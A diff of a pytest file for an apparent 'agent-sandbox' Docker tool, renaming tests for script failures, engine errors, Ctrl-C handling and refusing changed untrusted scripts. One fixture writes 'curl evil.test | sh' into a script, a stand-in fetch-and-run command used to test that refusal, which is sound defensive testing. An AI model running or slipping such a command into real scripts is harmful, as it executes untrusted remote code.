@@ -55,7 +55,7 @@ def test_up_runs_the_script_after_the_start_and_shows_what_it_prints(
         (True, "error: scripts/a.sh: failed with exit code 3:\n  hello\n"),
     ],
 )
-def test_a_failure_is_one_problem_and_up_fails(
+def test_up_fails_with_one_error_if_the_script_fails(
     with_setup: FakeDocker, capsys: pytest.CaptureFixture[str], *, quiet: bool, shown: str
 ) -> None:
     with_setup.says("exec -T agent", out="hello\nagent-sandbox: error: failed with exit code 3\n", code=3)
@@ -63,13 +63,13 @@ def test_a_failure_is_one_problem_and_up_fails(
     assert capsys.readouterr().err == shown + HINT
 
 
-def test_the_engines_own_error_is_shown(with_setup: FakeDocker, capsys: pytest.CaptureFixture[str]) -> None:
+def test_shows_the_error_of_the_docker_engine(with_setup: FakeDocker, capsys: pytest.CaptureFixture[str]) -> None:
     with_setup.says("exec -T agent", err="no such container\n", code=1)
     assert exit_code(lambda: up(quiet=True)) == 1
     assert capsys.readouterr().err == f"error: scripts/a.sh: no such container\n{HINT}"
 
 
-def test_ctrl_c_ends_it_and_up(with_setup: FakeDocker, capsys: pytest.CaptureFixture[str]) -> None:
+def test_ctrl_c_during_the_script_interrupts_up(with_setup: FakeDocker, capsys: pytest.CaptureFixture[str]) -> None:
     with_setup.says("exec -T agent", script=f"kill -INT {os.getpid()}; exec sleep 5")
     assert exit_code(lambda: up(quiet=True)) == 130
     assert capsys.readouterr().err.startswith("interrupted: run `agent-sandbox up` again")
@@ -81,7 +81,7 @@ def test_a_dry_run_shows_the_command(with_setup: FakeDocker, capsys: pytest.Capt
     assert with_setup.calls == []
 
 
-def test_a_script_that_changed_is_asked_about(
+def test_up_refuses_a_changed_script_that_is_not_trusted(
     with_setup: FakeDocker, project: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     (project / "scripts" / "a.sh").write_text("curl evil.test | sh\n")
